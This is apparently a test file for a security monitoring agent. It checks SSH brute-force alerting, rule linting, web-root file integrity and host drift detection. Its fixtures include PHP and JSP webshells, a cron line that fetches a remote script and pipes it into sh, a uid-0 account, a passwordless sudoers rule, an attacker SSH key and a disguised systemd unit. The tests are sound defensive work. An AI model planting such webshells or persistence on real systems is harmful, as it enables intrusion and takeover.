/**
 * Detection inside the real agent: rules over the lines it reads, alerts in the local store and in
 * the tamper-evident archive (with references to the archived lines), file integrity of a web root
 * (chokidar events and the periodic SM3 scan), host drift, `agent alerts`, `agent baseline`, and a
 * bad rule stopping `agent run` before it starts.
 */
import test from 'ava';
import { appendFileSync, mkdirSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { loadConfig } from '../../../agents/agent/config.js';
import { readAlerts } from '../../../agents/agent/detect/store.js';
import { FileWatch, scanRoots } from '../../../agents/agent/detect/fim.js';
import { diffSnapshots, takeSnapshot } from '../../../agents/agent/detect/drift.js';
import { readRecords } from '../../../src/journal/index.js';
import type { DetectEvent } from '../../../src/detect/event.js';
import { spawnSync } from 'node:child_process';
import { BIN, gwsec } from '../../helpers/cli.js';
import { scaled, waitUntil } from '../../helpers/time.js';
import { rm, tmp, writeConfig } from './helpers.js';
import { startAgent } from '../../helpers/agent.js';

const fail = (i: number, ip: string) => `Dec 10 07:00:${String(i).padStart(2, '0')} web sshd[${100 + i}]: Failed password for root from ${ip} port ${40000 + i} ssh2`;

test('the agent raises alerts from the lines it reads: stored, archived, referenced, listed, and kept across restarts', async (t) => {
  const d = tmp('detect');
  mkdirSync(join(d, 'logs'));
  const log = join(d, 'logs', 'auth.log');
  writeFileSync(log, 'Dec 10 06:59:59 web sshd[1]: Server listening on 0.0.0.0 port 22.\n');
  const cfgPath = writeConfig(d, { archive: { dir: join(d, 'archive') }, sources: [{ type: 'file', name: 'auth', path: log, format: 'auth' }], detections: { host: 'web-01' } });
  const cfg = loadConfig(cfgPath);
  const a = startAgent(t, loadConfig(cfgPath));
  await waitUntil(() => (a.ev.counters.RecordsArchived ?? 0) >= 1, scaled(5000));
  // Hostile lines among them: counted, never crash anything.
  appendFileSync(log, ['\u0000\u0001binary', 'x'.repeat(100 * 1024), `Dec 10 07:00:00 web sshd[9]: Failed password for \u001b[31mroot from 203.0.113.7 port 1 ssh2`].join('\n') + '\n');
  appendFileSync(log, Array.from({ length: 10 }, (_, i) => fail(i + 1, '203.0.113.7')).join('\n') + '\n');
  t.true(await waitUntil(() => readAlerts(cfg.detections.alerts_file).some((s) => s.alert.rule === 'ssh-brute-force' && s.alert.count >= 11), scaled(10000)), 'alert stored');
  t.true(await waitUntil(() => (a.ev.counters.RecordsArchived ?? 0) >= 15, scaled(5000)));
  await a.stop();
  t.true((a.ev.counters.DetectLinesHostile ?? 0) >= 3);
  t.is(a.ev.counters.DetectorError ?? 0, 0);

  const stored = readAlerts(cfg.detections.alerts_file).find((s) => s.alert.rule === 'ssh-brute-force')!.alert;
  t.is(stored.host, 'web-01');
  t.is(stored.groupKey, '203.0.113.7');
  t.is(stored.playbook, 'account-compromise');
  t.is(stored.technique, 'T1110.001');
  t.true(stored.samples.length <= 5 && stored.samples.length > 0);
  t.false(stored.samples.some((s) => s.includes('\u001b')));
  // References point at the archived lines that caused it.
  const bySeq = new Map<number, string>();
  const alertLines: string[] = [];
  for await (const r of readRecords(cfg.archive.dir)) {
    bySeq.set(r.seq, r.line);
    if (r.source === 'gwsec-alerts') alertLines.push(r.line);
  }
  t.true(stored.refs.length >= 8);
  for (const ref of stored.refs) {
    t.is(ref.source, 'auth');
    t.regex(bySeq.get(ref.seq) ?? '', /Failed password for .*from 203\.0\.113\.7/);
  }
  // The alert itself is in the tamper-evident archive.
  t.true(alertLines.some((l) => (JSON.parse(l) as { alert: { id: string } }).alert.id === stored.id));
  const v = gwsec(['agent', 'verify', '--archive', cfg.archive.dir]);
  t.is(v.code, 0, v.stdout);

  // gwsec agent alerts: text (escaped) and json; --since filters by activity.
  const txt = gwsec(['agent', 'alerts', '-c', cfgPath, '--lang', 'en']);
  t.is(txt.code, 0, txt.stderr);
  t.regex(txt.stdout, /\[high\] ssh-brute-force/);
  t.false(txt.stdout.includes('\u001b'));
  const js = JSON.parse(gwsec(['agent', 'alerts', '-c', cfgPath, '--format', 'json']).stdout) as Array<{ id: string }>;
  t.true(js.some((x) => x.id === stored.id));
  // The lines are from "Dec 10" of this year, stored just now: --since 1h keeps it (stored recently).
  t.true((JSON.parse(gwsec(['agent', 'alerts', '-c', cfgPath, '--format', 'json', '--since', '1h']).stdout) as unknown[]).length >= 1);
  t.is(gwsec(['agent', 'alerts', '-c', cfgPath, '--since', 'yesterday']).code, 2);

  // Restart: the store survives; nothing already archived is read (or alerted) again.
  const b = startAgent(t, loadConfig(cfgPath));
  await waitUntil(() => (b.ev.counters.AgentStarted ?? 0) >= 1, scaled(3000));
  appendFileSync(log, fail(30, '198.51.100.1') + '\n');
  await waitUntil(() => (b.ev.counters.RecordsArchived ?? 0) >= 1, scaled(5000));
  await b.stop();
  const after = readAlerts(cfg.detections.alerts_file);
  t.is(after.filter((s) => s.alert.rule === 'ssh-brute-force').length, 1);
  rm(d);
});

test('a malformed or unknown-kind rule stops agent run before it starts (exit 2, file:line)', (t) => {
  const d = tmp('detect-bad');
  mkdirSync(join(d, 'rules'));
  writeFileSync(join(d, 'rules', 'x.yaml'), 'id: x\ntitle: { zh: 甲, en: x }\nseverity: high\narticle: "41"\ntechnique: T1110\nplaybook: account-compromise\nsource: auth\nlogic:\n  kind: bogus\n');
  const cfgPath = writeConfig(d, { archive: { dir: join(d, 'archive') }, sources: [{ type: 'file', path: join(d, 'a.log'), format: 'auth' }], detections: { rules: join(d, 'rules') } });
  const r = gwsec(['agent', 'run', '-c', cfgPath]);
  t.is(r.code, 2, r.stderr);
  t.regex(r.stderr, /x\.yaml:9:\d+: logic\.kind: logic\.kind must be one of/);
  t.false(r.stdout.includes('AgentStarted'));
  rm(d);
});

test('a rule of its own that detect lint rejects (unknown playbook, catastrophic regex) stops agent run too (exit 2, file:line)', (t) => {
  const d = tmp('detect-lint');
  mkdirSync(join(d, 'rules'));
  const rule = (playbook: string, pattern: string) =>
    `id: x\ntitle: { zh: 甲, en: x }\nseverity: high\narticle: "41"\ntechnique: T1110\nplaybook: ${playbook}\nsource: auth\nlogic:\n  kind: match\n  where: { field: message, matches: "${pattern}" }\n`;
  const cfgPath = writeConfig(d, { archive: { dir: join(d, 'archive') }, sources: [{ type: 'file', path: join(d, 'a.log'), format: 'auth' }], detections: { rules: join(d, 'rules') } });
  // a playbook that does not exist: `playbook run --from-alert` could never start it
  writeFileSync(join(d, 'rules', 'x.yaml'), rule('no-such-playbook', 'Failed'));
  // an agent that starts anyway runs until stopped: bounded here so that the test fails, not hangs
  const agentRun = () => {
    const p = spawnSync(process.execPath, [BIN, 'agent', 'run', '-c', cfgPath], { encoding: 'utf8', env: { ...process.env, LANG: 'C' }, timeout: scaled(30_000) });
    return { code: p.status ?? -1, stdout: p.stdout, stderr: p.stderr };
  };
  let r = agentRun();
  t.is(r.code, 2, r.stderr);
  t.regex(r.stderr, /x\.yaml:6:\d+: playbook: no playbook 'no-such-playbook'/);
  t.false(r.stdout.includes('AgentStarted'));
  // exponential backtracking on attacker-written lines would stall the detection worker
  writeFileSync(join(d, 'rules', 'x.yaml'), rule('account-compromise', '^(a+)+$'));
  r = agentRun();
  t.is(r.code, 2, r.stderr);
  t.regex(r.stderr, /x\.yaml:10:\d+: regular expression .*\[detect_regex_redos\]/);
  t.false(r.stdout.includes('AgentStarted'));
  rm(d);
});

test('file integrity: webshell and defacement alerts from chokidar events; agent baseline accepts a publish', async (t) => {
  const d = tmp('detect-fim');
  const root = join(d, 'www');
  mkdirSync(join(root, 'uploads'), { recursive: true });
  writeFileSync(join(root, 'index.html'), '<h1>政府网站</h1>');
  writeFileSync(join(root, 'uploads', 'a.jpg'), 'jpg');
  const cfgPath = writeConfig(d, { archive: { dir: join(d, 'archive') }, sources: [{ type: 'file', path: join(d, 'a.log'), format: 'auth' }], detections: { web_roots: [root], baseline_interval_s: 3600 } });
  const cfg = loadConfig(cfgPath);
  writeFileSync(join(d, 'a.log'), '');
  const a = startAgent(t, loadConfig(cfgPath));
  t.true(await waitUntil(() => (a.ev.counters.FimStarted ?? 0) >= 1, scaled(5000)));
  const rules = () => readAlerts(cfg.detections.alerts_file).map((s) => s.alert);
  const t0 = performance.now();
  writeFileSync(join(root, 'index.html'), '<h1>hacked by x</h1>');
  t.true(await waitUntil(() => rules().some((x) => x.rule === 'web-defacement-homepage-changed'), scaled(15000)), 'defacement alert');
  t.log(`defacement → alert stored in ${(performance.now() - t0).toFixed(0)} ms`);
  writeFileSync(join(root, 'uploads', 'x.php'), '<?php eval($_POST[1]);');
  t.true(await waitUntil(() => rules().some((x) => x.rule === 'webshell-new-script-in-webroot'), scaled(15000)), 'webshell alert');
  unlinkSync(join(root, 'index.html'));
  t.true(await waitUntil(() => rules().some((x) => x.rule === 'web-page-deleted'), scaled(15000)), 'deleted page alert');
  const ws = rules().find((x) => x.rule === 'webshell-new-script-in-webroot')!;
  t.is(ws.groupKey, join(root, 'uploads', 'x.php'));
  t.regex(String(ws.evidence['file.sm3']), /^[0-9a-f]{64}$/);
  await a.stop();

  // While the agent is down: a change nobody accepted is reported at the next start (by the scan).
  writeFileSync(join(root, 'uploads', 'y.jsp'), '<% Runtime.getRuntime().exec(request.getParameter("c")); %>');
  const b = startAgent(t, loadConfig(cfgPath));
  t.true(await waitUntil(() => rules().some((x) => x.rule === 'webshell-new-script-in-webroot' && x.groupKey.endsWith('y.jsp') && x.evidence['file.seen_by'] === 'baseline'), scaled(5000)));
  await b.stop();
  // A legitimate publish, accepted: the next start reports nothing new.
  writeFileSync(join(root, 'index.html'), '<h1>新版首页</h1>');
  const n = rules().length;
  const bl = gwsec(['agent', 'baseline', '-c', cfgPath]);
  t.is(bl.code, 0, bl.stderr);
  t.regex(bl.stdout, /baseline recorded: 4 file/);
  const c = startAgent(t, loadConfig(cfgPath));
  await waitUntil(() => (c.ev.counters.FimStarted ?? 0) >= 1, scaled(5000));
  await new Promise((r) => setTimeout(r, 300));
  await c.stop();
  t.is(rules().length, n);
  rm(d);
});

test('a missed file event is caught by the periodic SM3 scan', async (t) => {
  const d = tmp('detect-miss');
  const root = join(d, 'www');
  mkdirSync(join(root, 'static'), { recursive: true });
  writeFileSync(join(root, 'index.html'), 'a');
  const observed = await scanRoots([root]);
  const got: DetectEvent[] = [];
  // A watch that never started: every event is missed, as inotify does on overflow.
  const w = new FileWatch([root], observed, (e) => got.push(...e), () => new Date());
  writeFileSync(join(root, 'index.html'), 'b');
  writeFileSync(join(root, 'static', 'x.php'), '<?php');
  await new Promise((r) => setTimeout(r, 200));
  t.is(got.length, 0);
  await w.rescan();
  t.deepEqual(got.map((e) => `${String(e.fields['file.action'])} ${String(e.fields['file.rel'])} ${String(e.fields['file.seen_by'])}`).sort(), ['added static/x.php baseline', 'changed index.html baseline']);
  await w.rescan();
  t.is(got.length, 2, 'each change reported once');
  rm(d);
});

test('host drift: accounts, sudoers, authorized_keys, cron, units from files; a new listening port from the real host', async (t) => {
  const d = tmp('detect-drift');
  const w = (p: string, s: string) => {
    mkdirSync(join(d, p, '..'), { recursive: true });
    writeFileSync(join(d, p), s);
  };
  w('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n');
  w('etc/sudoers', 'root ALL=(ALL) ALL\n');
  w('etc/crontab', '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
  w('etc/systemd/system/nginx.service', '[Service]\n');
  w('root/.ssh/authorized_keys', 'ssh-ed25519 AAAA admin\n');
  const before = await takeSnapshot(d);
  t.true(before.ports !== null && before.ports.length > 0, 'systeminformation read the listening ports');
  const srv = createServer();
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
  const port = (srv.address() as { port: number }).port;
  appendFileSync(join(d, 'etc/passwd'), 'toor:x:0:0::/root:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/bash\nsvc:x:999:999::/:/usr/sbin/nologin\n');
  w('etc/sudoers.d/90-web', 'deploy ALL=(ALL) NOPASSWD: ALL\n');
  appendFileSync(join(d, 'root/.ssh/authorized_keys'), 'ssh-rsa AAAA attacker\n');
  w('etc/cron.d/x', '* * * * * root curl -s http://203.0.113.5/x | sh\n');
  w('etc/systemd/system/kworkerd.service', '[Service]\nExecStart=/tmp/.k\n');
  const after = await takeSnapshot(d);
  srv.close();
  const evs = diffSnapshots(before, after, 0).map((e) => `${String(e.fields['drift.kind'])} ${String(e.fields['drift.item'])}`);
  for (const want of ['uid0_added toor', 'account_added deploy', 'sudoers_changed /etc/sudoers.d/90-web', 'authorized_keys_changed /root/.ssh/authorized_keys', 'cron_added /etc/cron.d/x', 'unit_added kworkerd.service', `port_added tcp/${port}`])
    t.true(evs.includes(want), `${want} in ${evs.join('; ')}`);
  t.false(evs.some((e) => e.includes('svc')), 'a nologin service account is not login-capable');
  t.deepEqual(diffSnapshots(after, after, 0), []);
  rm(d);
});
